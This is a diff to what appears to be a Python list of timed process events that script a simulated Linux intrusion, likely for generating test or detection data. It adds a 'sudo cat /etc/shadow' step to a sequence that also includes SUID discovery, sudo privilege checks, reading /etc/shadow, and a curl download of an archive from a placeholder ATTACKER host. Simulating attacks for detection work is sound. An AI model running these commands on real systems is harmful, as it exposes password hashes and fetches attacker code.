@@ -58,6 +58,7 @@ STEPS = (
     (26, 14, "/usr/bin/find", "find / -perm -4000 -type f", "1001"),
     (27, 48, "/bin/bash", "bash -c cat /proc/cpuinfo | grep -c ^processor; free -m", "1001"),
     (28, 20, "/usr/bin/sudo", "sudo -n -l", "1001"),
+    (29, 8, "/usr/bin/sudo", "sudo cat /etc/shadow", "1001"),
     (29, 9, "/bin/cat", "cat /etc/shadow", "0"),
     (32, 50, "/bin/mkdir", f"mkdir -p {_X}", "1001"),
     (33, 7, "/usr/bin/curl", f"curl -fsSL http://{ATTACKER}:8080/k/x.tgz -o {_X}/x.tgz", "1001"),
